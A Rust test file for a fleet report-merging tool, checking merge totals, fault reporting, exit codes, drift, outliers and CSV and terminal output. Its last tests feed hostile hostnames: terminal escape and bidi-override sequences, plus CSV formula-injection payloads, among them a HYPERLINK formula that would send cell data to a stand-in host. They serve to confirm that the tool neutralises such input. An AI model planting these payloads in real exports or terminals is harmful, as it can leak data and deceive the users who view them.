//! The merge against an oracle that keeps every report.

use std::collections::BTreeMap;
use std::fs;
use std::io::Write;

use serde_json::{Value, json};
use tempfile::tempdir;

use crate::common::fixture::Fixture;
use crate::reports::{
    DISTROS, Dice, REAL, audited, indented, lines, merged, merged_input, unreached, varied,
};

/// What fails or is unknown, by weight and name.
fn marks(report: &Value) -> Vec<(usize, String)> {
    let checks = report["checks"].as_array().into_iter().flatten();
    let mut marks: Vec<(usize, String)> = checks
        .filter_map(|check| {
            let weights = ["advice", "warning", "blocker"];
            let weight = match check["verdict"].as_str().unwrap() {
                "fail" => weights.iter().position(|weight| check["severity"] == *weight).unwrap(),
                "unknown" => 3,
                _ => return None,
            };
            Some((weight, check["id"].as_str().unwrap().to_owned()))
        })
        .collect();
    marks.sort();
    marks
}

/// The latest report of each host; of one second the worse.
fn latest(reports: &[Value]) -> BTreeMap<String, &Value> {
    let key = |report: &Value| {
        let guest = &report["guest"];
        let id = guest["instance_id"].as_str().or(guest["hostname"].as_str());
        id.expect("a name").to_owned()
    };
    let badness = |report: &Value| match report["verdict"].as_str() {
        Some("ready") => 0,
        None => 1,
        Some("undetermined") => 2,
        Some(_) => 3,
    };
    let rank = |report: &Value| {
        (report["started"].as_str().unwrap().to_owned(), badness(report), marks(report))
    };
    let mut hosts: BTreeMap<String, &Value> = BTreeMap::new();
    for report in reports {
        let host = hosts.entry(key(report)).or_insert(report);
        if rank(report) > rank(host) {
            *host = report;
        }
    }
    hosts
}

/// Hosts by check, and by what the check is there.
fn counts(hosts: &BTreeMap<String, &Value>) -> BTreeMap<(String, String), u64> {
    let mut counts = BTreeMap::new();
    for report in hosts.values() {
        for check in report["checks"].as_array().into_iter().flatten() {
            let what = match check["verdict"].as_str().unwrap() {
                "fail" => match check["severity"].as_str().unwrap() {
                    "advice" => "advice".to_owned(),
                    severity => format!("{severity}s"),
                },
                "unknown" => "unknown".to_owned(),
                _ => continue,
            };
            *counts.entry((check["id"].as_str().unwrap().to_owned(), what)).or_default() += 1;
        }
    }
    counts
}

fn agree(merge: &Value, reports: &[Value]) {
    let hosts = latest(reports);
    assert_eq!(merge["reports"], reports.len());
    assert_eq!(merge["hosts"], hosts.len());
    assert_eq!(merge["superseded"], reports.len() - hosts.len());
    for verdict in ["ready", "not-ready", "undetermined", "unreached"] {
        let is_it = |report: &&&Value| report["verdict"].as_str().unwrap_or("unreached") == verdict;
        let count = hosts.values().filter(is_it).count();
        assert_eq!(merge["verdicts"][verdict], count, "{verdict}");
    }
    let mut told = BTreeMap::new();
    for check in merge["checks"].as_array().unwrap() {
        for what in ["blockers", "warnings", "advice", "unknown"] {
            let count = check[what].as_u64().unwrap();
            if count > 0 {
                told.insert((check["id"].as_str().unwrap().to_owned(), what.to_owned()), count);
            }
        }
    }
    assert_eq!(told, counts(&hosts));
    let rows = merge["host_rows"].as_array().unwrap();
    assert_eq!(rows.len(), hosts.len());
    for row in rows {
        let name = row["instance_id"].as_str().or(row["hostname"].as_str()).unwrap();
        let report = hosts[name];
        assert_eq!(row["started"], report["started"], "{name}");
        assert_eq!(row["verdict"].as_str(), report["verdict"].as_str().or(Some("unreached")));
        assert_eq!(row["os"], report["guest"]["os"]["id"], "{name}");
    }
}

fn fleet(seed: u64, reports: usize, hosts: usize) -> Vec<Value> {
    let mut dice = Dice(seed);
    let mut all: Vec<Value> = (0..reports).map(|_| varied(&mut dice, hosts)).collect();
    all.extend(["gone-1", "gone-2"].map(unreached));
    all
}

#[test]
fn whatever_it_is_packed_in_the_merge_is_the_same() {
    let reports = fleet(7, 400, 150);
    let directory = tempdir().unwrap();
    let at = |name: &str| directory.path().join(name);
    fs::create_dir_all(at("below/deeper")).unwrap();
    let (first, rest) = reports.split_at(150);
    let (second, third) = rest.split_at(150);
    fs::write(at("below/deeper/a.ndjson"), lines(first)).unwrap();
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gzip.write_all(&indented(second)).unwrap();
    fs::write(at("below/b.json.gz"), gzip.finish().unwrap()).unwrap();
    fs::write(at("c.jsonl.zst"), zstd::encode_all(lines(third).as_slice(), 3).unwrap()).unwrap();
    fs::write(at("below/README"), "no report, and not read").unwrap();

    let folder = merged(&[directory.path()], &["--format", "json"]).exits(1);
    let merge = folder.json();
    agree(&merge, &reports);
    assert_eq!(merge["left_aside"], 1);
    assert_eq!(merge["fault_count"], 0);
    // In another order, from standard input, by another number of threads.
    let backwards: Vec<Value> = reports.iter().rev().cloned().collect();
    let mut seen = Vec::new();
    for threads in ["1", "2", "7"] {
        let done = merged_input(&indented(&backwards), &["--format", "json", "--threads", threads]);
        agree(&done.json(), &reports);
        seen.push(done.out);
    }
    assert!(seen.iter().all(|out| *out == seen[0]), "the order of the threads shows");
}

#[test]
fn a_short_report_counts_as_the_whole_one() {
    for distro in DISTROS {
        let fixture = Fixture::distro(distro);
        let [whole, short] = ["json", "compact"].map(|format| {
            let line = lines(&[audited(&fixture, format)]);
            merged_input(&line, &["--format", "json"]).json()
        });
        assert_eq!(whole["fault_count"], 0);
        for part in ["verdict", "verdicts", "checks", "versions", "profiles"] {
            assert_eq!(whole[part], short[part], "{distro}: {part}");
        }
        assert_eq!(whole["host_rows"][0]["hostname"], short["host_rows"][0]["hostname"]);
    }
}

#[test]
fn what_is_no_report_is_counted_and_named() {
    let mut report = REAL[0].clone();
    report["verdict"] = json!("not-ready");
    let report = report.to_string();
    let mut input = format!("{report}\nWarning: something else\n\n").into_bytes();
    input.extend(&report.as_bytes()[..900]);
    input.extend(b"\n{\"level\":\"info\"}\n{\"schema\":\"other/1\"}\n\xff\xfe\n");
    input.extend(report.replace("not-ready", "quite-ready").as_bytes());
    input.extend(b" trailing\n");
    let merge = merged_input(&input, &["--format", "json"]).exits(1).json();
    assert_eq!(merge["hosts"], 1);
    let faults = merge["faults"].as_array().unwrap();
    let told: Vec<(u64, &str)> = faults
        .iter()
        .map(|fault| (fault["line"].as_u64().unwrap(), fault["reason"].as_str().unwrap()))
        .collect();
    let expected = [
        (2, "it is no JSON object"),
        (4, "it is"),
        (5, "it has no schema"),
        (6, "the schema other/1 is not one of a report"),
        (7, "it is no JSON object"),
        (8, ""),
    ];
    assert_eq!(told.len(), expected.len(), "{told:?}");
    for ((line, reason), (at, begin)) in told.iter().zip(expected) {
        assert!(*line == at && reason.starts_with(begin), "{line}: {reason}");
    }
    assert!(faults.iter().all(|fault| fault["source"] == "standard input"));
}

#[test]
fn the_exit_code_is_the_answer() {
    let of = |verdict: &str| {
        let mut report = REAL[0].clone();
        report["verdict"] = json!(verdict);
        report["guest"]["hostname"] = json!(verdict);
        report
    };
    let code = |reports: &[Value]| merged_input(&lines(reports), &["--quiet"]).code;
    assert_eq!(code(&[of("ready")]), 0);
    assert_eq!(code(&[of("ready"), of("undetermined")]), 3);
    assert_eq!(code(&[of("ready"), unreached("x")]), 3);
    assert_eq!(code(&[of("undetermined"), of("not-ready"), unreached("x")]), 1);
    assert_eq!(merged_input(&[lines(&[of("ready")]), b"noise\n".to_vec()].concat(), &[]).code, 3);
    // Nothing at all is not ready either.
    assert_eq!(code(&[]), 3);
    merged(&["/there/is/nothing".as_ref()], &[]).exits(2).says("cannot read /there/is/nothing");
    merged(&[], &[]).exits(2);
}

#[test]
fn a_host_without_a_name_is_the_place_of_its_report() {
    let mut report = REAL[0].clone();
    let directory = tempdir().unwrap();
    for name in [json!(null), json!("localhost"), json!("")] {
        report["guest"]["hostname"] = name;
        let (a, b) = (directory.path().join("a.json"), directory.path().join("b.json"));
        for path in [&a, &b] {
            fs::write(path, lines(&[report.clone()])).unwrap();
        }
        let merge = merged(&[&a, &b], &["--format", "json"]).json();
        assert_eq!(merge["hosts"], 2);
        assert_eq!(merge["host_rows"][0]["host"], format!("{}:1", a.display()));
    }
}

#[test]
fn what_changed_since_is_told() {
    let mut reports: Vec<Value> = Vec::new();
    let mut dice = Dice(3);
    while reports.len() < 40 {
        let mut report = varied(&mut dice, 1);
        let number = reports.len();
        report["guest"]["hostname"] = json!(format!("host-{number:02}"));
        report["guest"]["instance_id"] = json!(format!("i-{number}"));
        report["verdict"] = json!("ready");
        report["started"] = json!("2026-11-01T00:00:00Z");
        for check in report["checks"].as_array_mut().unwrap() {
            check["verdict"] = json!("pass");
        }
        reports.push(report);
    }
    let directory = tempdir().unwrap();
    let before = directory.path().join("before.json");
    let path = before.to_str().unwrap();
    reports[5]["checks"][3]["verdict"] = json!("fail");
    reports[5]["checks"][3]["severity"] = json!("warning");
    merged_input(&lines(&reports), &["--format", "json", "-o", path]).exits(0);

    let mended = reports[5]["checks"][3]["id"].clone();
    reports[5]["checks"][3]["verdict"] = json!("pass");
    let broken = reports[6]["checks"][4]["id"].clone();
    reports[6]["checks"][4]["verdict"] = json!("fail");
    reports[6]["checks"][4]["severity"] = json!("blocker");
    reports[6]["verdict"] = json!("not-ready");
    reports.remove(0);
    // It does not answer, and so does not tell its instance id: it is known by its hostname.
    reports[0] = unreached("host-01");
    reports.push(unreached("new"));
    let done = merged_input(&lines(&reports), &["--format", "json", "--since", path]).exits(1);
    let drift = &done.json()["drift"];
    assert_eq!(drift["since"], "2026-11-01T00:00:00Z");
    assert_eq!(drift["gone"], json!(["host-00"]));
    assert_eq!(drift["appeared"], json!(["new"]));
    assert_eq!(
        drift["better"],
        json!([{"host": "host-05", "from": "ready", "to": "ready", "failing": [], "mended": [mended]}])
    );
    assert_eq!(
        drift["worse"],
        json!([
            {"host": "host-01", "from": "ready", "to": "unreached", "failing": [], "mended": []},
            {"host": "host-06", "from": "ready", "to": "not-ready", "failing": [broken], "mended": []},
        ])
    );
    assert_eq!(drift["same"], 36);
    // Neither a report nor anything else is a merge.
    for wrong in
        ["{}", "{\"schema\":\"guestprep.fleet/1\"}", "[]", "{\"schema\":\"x\",\"host_rows\":[]}"]
    {
        fs::write(&before, wrong).unwrap();
        merged_input(b"", &["--since", path]).exits(2).says("it is no merge");
    }
}

#[test]
fn whoever_differs_from_his_like_is_named() {
    let mut dice = Dice(9);
    let mut reports: Vec<Value> = Vec::new();
    while reports.len() < 60 {
        let mut report = varied(&mut dice, 1);
        let number = reports.len();
        report["guest"]["hostname"] = json!(format!("host-{number:02}"));
        report["guest"]["instance_id"] = json!(null);
        report["guest"]["os"] = json!({"id": "debian", "version_id": "12", "family": "deb"});
        for (at, check) in report["checks"].as_array_mut().unwrap().iter_mut().enumerate() {
            // One fails everywhere, one on two hosts of 59, one on three.
            let fails = at == 1 || at == 2 && number < 2 || at == 3 && number % 15 == 14;
            check["verdict"] = json!(if fails { "fail" } else { "pass" });
            check["severity"] = json!("warning");
        }
        // The checks of another distribution would be others.
        report["checks"] = json!(report["checks"].as_array().unwrap()[..4]);
        reports.push(report);
    }
    let id = |number: usize| reports[number]["checks"][2]["id"].clone();
    let expected = [json!(["host-00", [id(0)]]), json!(["host-01", [id(1)]])];
    // Of its system there are too few to differ from.
    reports[59]["guest"]["os"]["version_id"] = json!("13");
    let merge = merged_input(&lines(&reports), &["--format", "json"]).json();
    let outliers = merge["outliers"].as_array().unwrap().iter();
    let told: Vec<Value> = outliers.map(|one| json!([one["host"], one["checks"]])).collect();
    assert_eq!(told, expected);
    assert_eq!(merge["outlier_count"], 2);
}

#[test]
fn text_fits_a_terminal_and_sends_it_nothing() {
    let mut reports = fleet(11, 300, 120);
    reports[0]["guest"]["hostname"] = json!("a\u{1b}[2Jb\u{202e}c");
    reports[0]["started"] = json!("2026-12-01T00:00:00Z");
    reports[0]["guest"]["instance_id"] = json!("i-hostile");
    reports[0]["verdict"] = json!("not-ready");
    for check in reports[0]["checks"].as_array_mut().unwrap() {
        check["verdict"] = json!("fail");
        check["severity"] = json!("blocker");
    }
    for lang in ["en", "zh"] {
        let done = merged_input(&lines(&reports), &["--lang", lang]);
        for line in done.out.lines() {
            let wide = line.chars().filter(|letter| *letter > '\u{2e80}').count();
            assert!(line.chars().count() + wide <= 80, "{line}");
            assert!(
                !line.chars().any(|letter| letter.is_control() || letter == '\u{202e}'),
                "{line:?}"
            );
        }
        assert!(done.out.contains("a\\u{1b}[2Jb\\u{202e}c"), "{}", done.out);
    }
}

#[test]
fn csv_has_every_host_as_json_does() {
    let reports = fleet(13, 200, 90);
    let json = merged_input(&lines(&reports), &["--format", "json"]).json();
    let csv = merged_input(&lines(&reports), &["--format", "csv"]).out;
    let mut rows = csv.lines().map(|line| line.split(',').collect::<Vec<_>>());
    let head = rows.next().unwrap();
    for (row, host) in rows.by_ref().zip(json["host_rows"].as_array().unwrap()) {
        for (name, field) in head.iter().zip(&row) {
            let expected = match &host[name] {
                Value::Null => String::new(),
                Value::String(text) => text.clone(),
                Value::Array(ids) => {
                    ids.iter().map(|id| id.as_str().unwrap()).collect::<Vec<_>>().join(" ")
                }
                other => other.to_string(),
            };
            assert_eq!(**field, expected, "{name}");
        }
        assert_eq!(row.len(), head.len());
    }
    assert_eq!(csv.lines().count(), 1 + json["host_rows"].as_array().unwrap().len());
}

#[test]
fn no_field_of_the_csv_is_a_formula() {
    let hostile = [
        ("=HYPERLINK(\"http://a/?\"&A1,\"b\")", "\"'=HYPERLINK(\"\"http://a/?\"\"&A1,\"\"b\"\")\""),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "\\u{d}=1"),
        ("a=1-2", "a=1-2"),
        ("a\u{1b}[2J\u{202e}", "a\\u{1b}[2J\\u{202e}"),
    ];
    for (name, field) in hostile {
        let mut reports = fleet(17, 1, 1);
        reports[0]["guest"]["hostname"] = json!(name);
        let csv = merged_input(&lines(&reports), &["--format", "csv"]).out;
        let row = csv.lines().nth(1).unwrap();
        assert!(row.contains(&format!(",{field},")), "{name:?}: {row:?}");
    }
}
